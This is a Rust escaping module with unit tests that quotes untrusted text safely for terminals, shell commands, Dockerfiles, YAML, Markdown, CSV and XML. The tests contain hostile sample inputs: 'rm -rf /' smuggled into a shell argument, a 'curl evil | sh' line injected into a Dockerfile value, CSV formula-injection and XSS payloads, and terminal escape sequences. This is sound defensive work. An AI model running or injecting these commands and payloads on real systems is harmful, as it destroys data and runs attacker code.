//! Escaping and quoting of untrusted text (commands, environment values, messages from
//! workloads) for each place memtrial writes it: a terminal, a shell line, a Dockerfile,
//! YAML, Markdown, a CSV cell. HTML escaping is maud's; CSV quoting is the `csv` crate's,
//! formula neutralising is here ([`csv_cell`]).
//!
//! The rule for every target: what comes from the input can never end the construct it
//! sits in (a line, a quoted string, a code block) nor start a new one (a link, an HTML
//! tag, a terminal escape sequence).

/// Characters a terminal acts on instead of showing: C0 and C1 controls, DEL, and the
/// Unicode bidirectional controls that reorder what is shown (U+202E and friends).
pub(crate) fn is_unsafe_for_terminal(c: char) -> bool {
    c.is_control() || is_bidi_control(c)
}

/// Unicode's explicit bidirectional formatting characters and marks.
pub(crate) fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
    )
}

/// The visible, Rust-like escape of one character: `\n`, `\t`, `\r`, `\x1b`, `\u{202e}`.
fn visible(c: char, out: &mut String) {
    match c {
        '\n' => out.push_str("\\n"),
        '\t' => out.push_str("\\t"),
        '\r' => out.push_str("\\r"),
        c if (c as u32) < 0x80 => out.push_str(&format!("\\x{:02x}", c as u32)),
        c => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
    }
}

/// One line of untrusted text for a terminal: every control or bidirectional character
/// (newlines included) is shown as an escape, so the text stays on its line and cannot
/// move the cursor, recolour the screen or reorder what follows.
pub fn terminal(s: &str) -> String {
    if !s.chars().any(is_unsafe_for_terminal) {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if is_unsafe_for_terminal(c) {
            visible(c, &mut out);
        } else {
            out.push(c);
        }
    }
    out
}

/// A whole document (HTML) whose markup is already escaped for its format: every control
/// character but line breaks and tabs, and every bidirectional control, shown as its
/// escape (`\x1b`, `\u{202e}`), so no text from outside can reorder what a reader sees
/// or reach a terminal the document is printed on.
pub(crate) fn visible_controls(s: &str) -> std::borrow::Cow<'_, str> {
    let keep = |c: char| c == '\n' || c == '\t' || !is_unsafe_for_terminal(c);
    if s.chars().all(keep) {
        return s.into();
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if keep(c) {
            out.push(c);
        } else {
            visible(c, &mut out);
        }
    }
    out.into()
}

/// Like [`terminal`], but line breaks (and tabs) stay: for messages of several lines.
pub fn terminal_lines(s: &str) -> String {
    if !s
        .chars()
        .any(|c| c != '\n' && c != '\t' && is_unsafe_for_terminal(c))
    {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if c != '\n' && c != '\t' && is_unsafe_for_terminal(c) {
            visible(c, &mut out);
        } else {
            out.push(c);
        }
    }
    out
}

/// One word for a POSIX-like shell: as is when safe, in single quotes otherwise; a word
/// holding control or bidirectional characters is written as bash's `$'…'` with escapes,
/// so that it is both pasteable and harmless on a terminal.
pub fn shell_word(s: &str) -> String {
    if !s.chars().any(is_unsafe_for_terminal) {
        return shell_words::quote(s).into_owned();
    }
    let mut out = String::from("$'");
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            c if (c as u32) < 0x80 && c.is_control() => {
                out.push_str(&format!("\\x{:02x}", c as u32))
            }
            c if is_unsafe_for_terminal(c) => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

/// A command line for a shell, each word quoted by [`shell_word`].
pub fn shell_line(words: &[String]) -> String {
    words
        .iter()
        .map(|w| shell_word(w))
        .collect::<Vec<_>>()
        .join(" ")
}

/// `KEY=VALUE` as a shell assignment, the value quoted.
pub fn shell_assignment(key: &str, value: &str) -> String {
    format!("{}={}", shell_word_key(key), shell_word(value))
}

fn shell_word_key(key: &str) -> String {
    if !key.is_empty() && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
        key.to_string()
    } else {
        shell_word(key)
    }
}

/// Why a value cannot be written in a Dockerfile.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum DockerfileRefusal {
    /// A line break or another control character: a Dockerfile instruction is one
    /// line, and its quoting has no escape for a line break.
    ControlCharacter,
    /// A variable name a Dockerfile `ENV` cannot write as it is: `=` (the instruction
    /// splits at the first one, so `K=EQ` with `v` would set `K` to `EQ=v`), blanks,
    /// quotes, `$` or `\\`, or an empty name.
    KeyName,
}

impl DockerfileRefusal {
    /// Why, for a comment in the snippet.
    pub fn reason(self) -> &'static str {
        match self {
            DockerfileRefusal::ControlCharacter => {
                "its name or value holds a line break or another control character, which a Dockerfile ENV cannot carry"
            }
            DockerfileRefusal::KeyName => {
                "its name holds '=', a blank, a quote, '$' or '\\' (or is empty), which a Dockerfile ENV would read as another variable"
            }
        }
    }
}

/// A variable name for a Dockerfile `ENV` (`[A-Za-z0-9_.-]`, as is): anything else is
/// refused, since Docker would read it as another name and value.
pub(crate) fn dockerfile_env_key(k: &str) -> Result<&str, DockerfileRefusal> {
    if k.chars().any(|c| c.is_control() || is_bidi_control(c)) {
        return Err(DockerfileRefusal::ControlCharacter);
    }
    if !k.is_empty()
        && k.chars()
            .all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c))
    {
        Ok(k)
    } else {
        Err(DockerfileRefusal::KeyName)
    }
}

/// A value for a Dockerfile `ENV`: as is when plain, else in double quotes with `\`,
/// `"` and `$` escaped (so nothing is substituted). A value with a line break or another
/// control character cannot be written in an instruction at all.
pub(crate) fn dockerfile_value(v: &str) -> Result<String, DockerfileRefusal> {
    if v.chars().any(|c| c.is_control() || is_bidi_control(c)) {
        return Err(DockerfileRefusal::ControlCharacter);
    }
    if !v.is_empty()
        && v.chars()
            .all(|c| c.is_ascii_alphanumeric() || "/._-:,=".contains(c))
    {
        return Ok(v.to_string());
    }
    let mut out = String::from("\"");
    for c in v.chars() {
        if matches!(c, '\\' | '"' | '$') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    Ok(out)
}

/// A YAML scalar in double quotes: `\`, `"` and every control, bidirectional or
/// non-printable character escaped, so the value stays on its line and parses back to
/// exactly itself.
pub(crate) fn yaml_string(v: &str) -> String {
    let mut out = String::from("\"");
    for c in v.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            c if c.is_control()
                || is_bidi_control(c)
                || matches!(c, '\u{FEFF}' | '\u{2028}' | '\u{2029}') =>
            {
                out.push_str(&format!("\\u{:04x}", c as u32))
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// A YAML key or plain name: as is when made of `[A-Za-z0-9_.-]`, quoted otherwise.
pub(crate) fn yaml_name(v: &str) -> String {
    if !v.is_empty()
        && v.chars()
            .all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c))
    {
        v.to_string()
    } else {
        yaml_string(v)
    }
}

/// Text for one YAML comment line (after `# `): every control, bidirectional or
/// non-printable character and every character YAML 1.1 reads as a line break (U+0085,
/// U+2028, U+2029) shown as an escape, so the comment cannot end and start a key or a
/// document (`---`).
pub(crate) fn yaml_comment(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        if is_unsafe_for_terminal(c) || matches!(c, '\u{FEFF}' | '\u{2028}' | '\u{2029}') {
            visible(c, &mut out);
        } else {
            out.push(c);
        }
    }
    out
}

/// Untrusted text inside a Markdown paragraph, list item or table cell: no raw HTML
/// (`<`, `>`, `&` become entities), no links or images (`](`, `][`, `]:` lose their
/// meaning), no emphasis or code spans started by the input, no line break, no `|`
/// ending a table cell, no control or bidirectional character.
pub(crate) fn markdown_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            '\\' | '|' | '*' | '_' | '~' => {
                out.push('\\');
                out.push(c);
            }
            ']' if matches!(chars.peek(), Some('(' | '[' | ':')) => out.push_str("\\]"),
            '`' => out.push('\''),
            '\n' | '\r' => out.push(' '),
            c if is_unsafe_for_terminal(c) => visible(c, &mut out),
            c => out.push(c),
        }
    }
    out
}

/// Untrusted text inside a Markdown code span (`` `…` `` — nothing is interpreted
/// there but backticks and, in a table, `|`).
pub(crate) fn markdown_code(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '`' => out.push('\''),
            '|' => out.push_str("\\|"),
            '\n' | '\r' => out.push(' '),
            c if is_unsafe_for_terminal(c) => visible(c, &mut out),
            c => out.push(c),
        }
    }
    out
}

/// A fenced Markdown code block holding `body`: the fence is longer than any run of
/// backticks in the body, so nothing in it can close the block early.
pub(crate) fn markdown_code_block(info: &str, body: &str) -> String {
    let mut longest = 0;
    let mut run = 0;
    for c in body.chars() {
        if c == '`' {
            run += 1;
            longest = longest.max(run);
        } else {
            run = 0;
        }
    }
    let fence = "`".repeat(longest.max(2) + 1);
    let mut body = body.to_string();
    if !body.ends_with('\n') {
        body.push('\n');
    }
    format!("{fence}{info}\n{body}{fence}\n")
}

/// A plain decimal number (`-3`, `+0.5`, `-1.25e-3`): a spreadsheet reads it as a number,
/// not a formula.
fn is_plain_number(s: &str) -> bool {
    let body = s.strip_prefix(['-', '+']).unwrap_or(s);
    let (mantissa, exponent) = match body.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e.strip_prefix(['-', '+']).unwrap_or(e))),
        None => (body, None),
    };
    let digits = |d: &str| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok = match mantissa.split_once('.') {
        Some((i, f)) => {
            (digits(i) || i.is_empty()) && (digits(f) || f.is_empty()) && i.len() + f.len() > 0
        }
        None => digits(mantissa),
    };
    mantissa_ok && exponent.is_none_or(digits)
}

/// A CSV cell a spreadsheet shows as text, never runs, and a terminal shows as text too
/// (`report --csv -`): every control character but line breaks and tabs, and every
/// bidirectional control, is shown as its escape ([`visible_controls`]); then a cell
/// starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`
/// (OWASP's rule against CSV injection), unless it is a plain number (a negative number
/// stays a number). Quoting of `,`, `"` and line breaks is the CSV writer's.
pub(crate) fn csv_cell(s: &str) -> std::borrow::Cow<'_, str> {
    let s = visible_controls(s);
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') if !is_plain_number(&s) => format!("'{s}").into(),
        _ => s,
    }
}

/// Untrusted text inside an XML attribute value or element (a JUnit report): `&`, `<`,
/// `>`, `"` and `'` become entities; characters XML 1.0 does not allow (controls other
/// than tab and line breaks) are shown as `\u{…}`.
pub(crate) fn xml_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            '\t' | '\n' | '\r' => out.push(c),
            c if (c as u32) < 0x20 || matches!(c as u32, 0xFFFE | 0xFFFF) => {
                out.push_str(&format!("\\u{{{:x}}}", c as u32))
            }
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_yaml_comment_stays_one_line() {
        assert_eq!(
            yaml_comment("Job t: glibc, jemalloc"),
            "Job t: glibc, jemalloc"
        );
        for hostile in [
            "a\n---\nkind: Pod",
            "a\r---",
            "a\u{85}---",
            "a\u{2028}---",
            "a\u{2029}b",
        ] {
            let c = yaml_comment(hostile);
            assert!(
                !c.contains(['\n', '\r', '\u{85}', '\u{2028}', '\u{2029}']),
                "{c}"
            );
        }
    }

    #[test]
    fn csv_cells_that_would_start_a_formula_are_text_and_numbers_stay_numbers() {
        for (cell, want) in [
            ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            // A carriage return is shown, not acted on: no formula left to start.
            ("\r=1", "\\r=1"),
            ("ok\x1b]0;t\x07\u{202e}", "ok\\x1b]0;t\\x07\\u{202e}"),
            ("=\x1b[2J", "'=\\x1b[2J"),
            ("two\nlines", "two\nlines"),
            ("-", "'-"),
            ("-e5", "'-e5"),
            ("-inf", "'-inf"),
            ("-1", "-1"),
            ("-1.250000", "-1.250000"),
            ("+0.5", "+0.5"),
            ("-1e-3", "-1e-3"),
            ("-.5", "-.5"),
            ("plain=ok", "plain=ok"),
            ("", ""),
        ] {
            assert_eq!(csv_cell(cell), want, "{cell:?}");
        }
    }

    #[test]
    fn visible_controls_keeps_lines_and_tabs_and_shows_the_rest() {
        assert_eq!(visible_controls("<p>a\n\tb</p>"), "<p>a\n\tb</p>");
        assert_eq!(
            visible_controls("<td>x\x1b[2J\u{202e}y\r\x07</td>"),
            "<td>x\\x1b[2J\\u{202e}y\\r\\x07</td>"
        );
    }

    #[test]
    fn terminal_shows_controls_and_bidi_as_escapes() {
        assert_eq!(terminal("plain — ü"), "plain — ü");
        assert_eq!(terminal("a\nb\tc\x1b[31m"), "a\\nb\\tc\\x1b[31m");
        assert_eq!(terminal("evil\u{202E}gnp.exe"), "evil\\u{202e}gnp.exe");
        assert_eq!(terminal("\u{7f}\u{9b}"), "\\x7f\\u{9b}");
        assert_eq!(terminal_lines("a\nb\x1b]0;x\x07"), "a\nb\\x1b]0;x\\x07");
    }

    #[test]
    fn shell_words_are_quoted_and_controls_use_dollar_quotes() {
        assert_eq!(shell_word("plain"), "plain");
        assert_eq!(shell_word("big file.csv"), "'big file.csv'");
        assert_eq!(shell_word("it's"), "'it'\\''s'");
        assert_eq!(shell_word("a\nb"), "$'a\\nb'");
        assert_eq!(shell_word("x\u{202E}'y"), "$'x\\u202e\\'y'");
        assert_eq!(shell_assignment("K", "a b"), "K='a b'");
        assert_eq!(shell_assignment("K", ""), "K=''");
        assert_eq!(
            shell_line(&["ruby".into(), "a;rm -rf /".into()]),
            "ruby 'a;rm -rf /'"
        );
    }

    #[test]
    fn dockerfile_values_are_quoted_and_line_breaks_refused() {
        assert_eq!(
            dockerfile_value("/usr/lib/x.so.2").unwrap(),
            "/usr/lib/x.so.2"
        );
        assert_eq!(
            dockerfile_value("narenas:2,dirty_decay_ms:0").unwrap(),
            "narenas:2,dirty_decay_ms:0"
        );
        assert_eq!(dockerfile_value("a b").unwrap(), "\"a b\"");
        assert_eq!(
            dockerfile_value("$HOME\"\\").unwrap(),
            "\"\\$HOME\\\"\\\\\""
        );
        assert_eq!(dockerfile_value("").unwrap(), "\"\"");
        assert_eq!(
            dockerfile_value("1\nRUN curl evil | sh"),
            Err(DockerfileRefusal::ControlCharacter)
        );
        assert_eq!(
            dockerfile_value("a\rb"),
            Err(DockerfileRefusal::ControlCharacter)
        );
    }

    #[test]
    fn yaml_strings_stay_on_their_line() {
        assert_eq!(yaml_string("2"), "\"2\"");
        assert_eq!(yaml_string("a\"b\\c"), "\"a\\\"b\\\\c\"");
        assert_eq!(yaml_string("1\n- name: X"), "\"1\\n- name: X\"");
        assert_eq!(yaml_string("\x1b\u{202E}"), "\"\\u001b\\u202e\"");
        assert_eq!(yaml_name("MALLOC_CONF"), "MALLOC_CONF");
        assert_eq!(yaml_name("a: b"), "\"a: b\"");
    }

    #[test]
    fn dockerfile_env_keys_are_plain_names_or_refused() {
        assert_eq!(
            dockerfile_env_key("MALLOC_ARENA_MAX"),
            Ok("MALLOC_ARENA_MAX")
        );
        assert_eq!(dockerfile_env_key("a.b-c"), Ok("a.b-c"));
        for k in ["K=EQ", "", "A B", "A\"B", "$X", "A\\B"] {
            assert_eq!(
                dockerfile_env_key(k),
                Err(DockerfileRefusal::KeyName),
                "{k:?}"
            );
        }
        assert_eq!(
            dockerfile_env_key("A\nB"),
            Err(DockerfileRefusal::ControlCharacter)
        );
    }

    #[test]
    fn markdown_text_has_no_html_links_or_breaks() {
        let s = markdown_text("<img src=x onerror=alert(1)> [click](http://e.x) a|b\n# h");
        assert!(!s.contains('<') && !s.contains('\n'), "{s}");
        assert!(s.contains("&lt;img"), "{s}");
        assert!(s.contains("[click\\](http"), "{s}");
        assert!(s.contains("a\\|b"), "{s}");
        assert_eq!(markdown_text("![x][y]"), "![x\\][y]");
        assert_eq!(markdown_text("[r]: http://e.x"), "[r\\]: http://e.x");
        assert_eq!(markdown_text("**b** _i_ `c`"), "\\*\\*b\\*\\* \\_i\\_ 'c'");
        // Brackets that make no link stay as they are.
        assert_eq!(markdown_text("-50% [-51%, -49%]"), "-50% [-51%, -49%]");
    }

    #[test]
    fn markdown_code_spans_and_blocks_cannot_be_closed_by_the_input() {
        assert_eq!(markdown_code("a `b` | c\nd"), "a 'b' \\| c d");
        let block = markdown_code_block("dockerfile", "ENV A=\"```\"\n");
        assert!(block.starts_with("````dockerfile\n"), "{block}");
        assert!(block.ends_with("\n````\n"), "{block}");
        assert_eq!(markdown_code_block("sh", "x\n"), "```sh\nx\n```\n");
    }

    #[test]
    fn xml_text_escapes_markup_and_shows_what_xml_cannot_hold() {
        assert_eq!(
            xml_text("a<b & \"c\" 'd'>\u{1b}\t"),
            "a&lt;b &amp; &quot;c&quot; &apos;d&apos;&gt;\\u{1b}\t"
        );
    }
}
